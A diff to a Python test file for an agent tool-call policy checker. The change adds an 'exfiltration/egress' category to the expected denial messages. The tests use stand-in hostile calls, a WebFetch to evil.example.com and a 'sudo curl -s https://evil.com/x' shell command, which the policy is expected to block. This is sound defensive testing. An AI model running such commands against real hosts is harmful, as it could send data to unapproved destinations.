@@ -186,7 +186,8 @@ async def test_notice_names_tool_reason_and_arguments() -> None:
     assert isinstance(result, TextBlock)
     assert "Tool: WebFetch" in result.text
     assert (
-        "Reason: WebFetch fetches from evil.example.com, which is not in allowed_hosts: "
+        "Reason: credential and data exfiltration (egress): "
+        "WebFetch fetches from evil.example.com, which is not in allowed_hosts: "
         "https://evil.example.com/x" in result.text
     )
     assert '  "prompt": "read it"\n' in result.text
@@ -194,6 +195,7 @@ async def test_notice_names_tool_reason_and_arguments() -> None:
     assert decision.details == {
         "tool": "WebFetch",
         "rule": "fetch-host",
+        "category": "exfiltration/egress",
         "arguments": {"url": "https://evil.example.com/x", "prompt": "read it"},
     }
 
@@ -202,6 +204,7 @@ def test_shell_reason_names_the_program_and_host() -> None:
     finding = POLICY.check(make_call(*sh("sudo curl -s https://evil.com/x")))
     assert finding is not None
     assert finding.message == (
+        "credential and data exfiltration (egress): "
         "curl contacts evil.com, which is not in allowed_hosts: sudo curl -s https://evil.com/x"
     )
 
